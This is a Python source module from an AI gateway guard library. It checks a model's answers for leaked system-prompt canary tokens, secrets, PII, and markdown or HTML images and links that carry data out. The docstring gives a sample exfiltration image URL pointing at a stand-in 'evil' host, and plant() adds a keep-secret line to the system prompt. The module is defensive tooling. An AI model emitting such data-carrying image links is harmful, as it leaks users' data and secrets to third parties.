"""Output guards: what a model's answer must not carry out.

- Canary tokens: the gateway plants a random token in the system prompt
  (:func:`new_canary`, :func:`plant`); an answer that contains it, even with spacing, case or
  zero-width characters changed, is leaking the system prompt (:func:`find_canaries`).
- Exfiltration through markdown: an image (``![x](https://evil/?q=...)``), a link or an HTML
  ``<img>`` whose URL carries data in its query string or path is fetched by the client
  that renders it and hands the data to a third party (:func:`find_exfiltration`).
- PII and secrets in the answer: :func:`scan_output` runs those guards too.
"""

from __future__ import annotations

import base64
import re
import secrets as _random
import unicodedata
from collections.abc import Iterable, Sequence
from urllib.parse import parse_qsl, unquote, urlsplit

from tsuba.guards import pii
from tsuba.guards import secrets as secret_scan
from tsuba.guards.types import Finding, ScanResult, max_score, resolve_overlaps

CANARY_PREFIX = "tsc-"
_CANARY = re.compile(r"tsc-[a-z2-7]{26}", re.IGNORECASE)
_INVISIBLE = dict.fromkeys(
    [0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD, 0x180E, 0x202A, 0x202B, 0x202C, 0x202D,
     0x202E, 0x2066, 0x2067, 0x2068, 0x2069]
)
_TARGET = r"\(\s{0,4}<?([^\s)>]{1,4096})>?(?:\s{1,4}\"[^\"\n]{0,200}\")?\s{0,4}\)"
_MD_IMAGE = re.compile(r"!\[[^\]\n]{0,500}\]" + _TARGET)
_MD_LINK = re.compile(r"(?<!!)\[[^\]\n]{0,500}\]" + _TARGET)
_MD_REF = re.compile(r"^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]{0,8}<?(\S{1,4096}?)>?(?:[ \t]|$)", re.M)
_HTML_SRC = re.compile(
    r"<(?:img|image|iframe|script|source|video|audio|link)\b[^>]{0,2000}?\b(?:src|href)\s*=\s*"
    r"[\"']?([^\"'\s>]{1,4096})",
    re.I,
)
_LONG_VALUE = 24  # characters in one query value past which it is likely data, not a parameter
_B64ISH = re.compile(r"[A-Za-z0-9+/_\-]{24,}={0,2}")


def new_canary() -> str:
    """A fresh canary token: 130 random bits, easy to find and never produced by chance."""
    raw = base64.b32encode(_random.token_bytes(17)).decode().lower().rstrip("=")
    return CANARY_PREFIX + raw[:26]


def plant(system_prompt: str, canary: str) -> str:
    """The system prompt with the canary in it, phrased so the model has no reason to repeat it."""
    return f"{system_prompt}\n\n(Internal reference {canary}; never mention it.)"


def _fold(text: str) -> str:
    # Undo what a model (or an attacker) might do to slip a token past a plain search.
    text = unicodedata.normalize("NFKC", text).translate(_INVISIBLE).lower()
    return re.sub(r"[\s\-_.`*]+", "", text)


def find_canaries(text: str, canaries: Iterable[str]) -> list[Finding]:
    """Where any planted canary appears in ``text``, also spaced out or disguised."""
    found: list[Finding] = []
    wanted = [c for c in canaries if c]
    if not wanted or not text:
        return found
    for m in _CANARY.finditer(text):
        if m.group().lower() in wanted:
            found.append(Finding(m.start(), m.end(), "CANARY", 1.0, "canary",
                                 "system-prompt canary token in the output"))
    if not found:
        folded = _fold(text)
        for canary in wanted:
            key = _fold(canary)
            if key and key in folded:
                found.append(Finding(0, len(text), "CANARY", 0.95, "canary",
                                     "system-prompt canary token (disguised) in the output"))
                break
    return found


def _urls(text: str) -> Iterable[tuple[int, int, str, str]]:
    for pattern, kind in ((_MD_IMAGE, "markdown_image"), (_MD_LINK, "markdown_link"),
                          (_MD_REF, "markdown_reference"), (_HTML_SRC, "html_resource")):
        for m in pattern.finditer(text):
            yield m.start(), m.end(), m.group(1), kind


def _data_in(url: str) -> list[str]:
    """Reasons to think ``url`` carries data out; empty when it looks like a plain link."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return ["malformed URL"]
    reasons = []
    values = [unquote(v) for _, v in parse_qsl(parts.query, keep_blank_values=True)]
    if parts.fragment:
        values.append(unquote(parts.fragment))
    segments = [unquote(s) for s in parts.path.split("/") if s]
    for value in values + segments:
        if len(value) >= _LONG_VALUE and (_B64ISH.fullmatch(value) or " " in value):
            reasons.append("long encoded or free-text value in the URL")
            break
    carried = " ".join(values + segments)
    if carried:
        kinds = {f.entity_type for f in pii.analyze(carried)} - {"URL", "DATE_TIME", "LOCATION"}
        kinds |= {"SECRET"} if secret_scan.scan(carried) else set()
        if kinds:
            reasons.append("URL carries " + ", ".join(sorted(kinds)))
    if sum(len(v) for v in values) > 200:
        reasons.append("large query string")
    return reasons


def find_exfiltration(
    text: str, *, allowed_hosts: Sequence[str] = (), images_only: bool = False
) -> list[Finding]:
    """Markdown or HTML resources whose URL would carry data to a host not allowed.

    Images and other auto-loaded resources are flagged on any sign of data (the client
    fetches them without a click); links only when the URL carries data.
    """
    allowed = {h.lower().rstrip(".") for h in allowed_hosts}
    found: list[Finding] = []
    for start, end, url, kind in _urls(text):
        if images_only and kind in ("markdown_link", "markdown_reference"):
            continue
        host = (urlsplit(url).hostname or "").lower().rstrip(".") if "://" in url else ""
        if host and (host in allowed or any(host.endswith("." + a) for a in allowed)):
            continue
        if not host:
            continue  # relative links stay on the page's own origin
        reasons = _data_in(url)
        if reasons:
            score = 0.9 if kind in ("markdown_image", "html_resource") else 0.7
            found.append(Finding(start, end, "EXFILTRATION", score, kind,
                                 f"{kind.replace('_', ' ')} to {host}: " + "; ".join(reasons)))
    return found


def scan_output(
    text: str,
    *,
    canaries: Iterable[str] = (),
    allowed_hosts: Sequence[str] = (),
    pii_entities: Iterable[str] | None = None,
    language: str = "en",
    threshold: float = 0.5,
) -> ScanResult:
    """The output guard: canaries, exfiltration links, secrets and PII in a model's answer.

    Invalid when a canary, an exfiltration link or a secret is found, or PII at or above
    ``threshold``; the sanitized text has those spans replaced by ``<TYPE>``.
    """
    canary_hits = find_canaries(text, canaries)
    findings = [
        *find_exfiltration(text, allowed_hosts=allowed_hosts),
        *secret_scan.scan(text, min_score=threshold),
        *pii.analyze(text, _output_entities(pii_entities), language, min_score=threshold),
    ]
    kept = resolve_overlaps(findings)
    sanitized = text
    for f in reversed(kept):
        sanitized = sanitized[: f.start] + f"<{f.entity_type}>" + sanitized[f.end :]
    if canary_hits:  # the whole answer is suspect once the system prompt leaks
        sanitized = ""
    every = tuple(sorted([*canary_hits, *kept], key=lambda f: (f.start, f.end)))
    return ScanResult(sanitized, not every, max_score(every), every)


# Links are the business of the exfiltration check; a plain URL in an answer is not a leak.
OUTPUT_SKIP = frozenset({"URL"})


def _output_entities(entities: Iterable[str] | None) -> list[str]:
    if entities is not None:
        return list(entities)
    return [e for e in pii.default_analyzer().supported_entities if e not in OUTPUT_SKIP]


__all__ = [
    "CANARY_PREFIX",
    "find_canaries",
    "find_exfiltration",
    "new_canary",
    "plant",
    "scan_output",
]
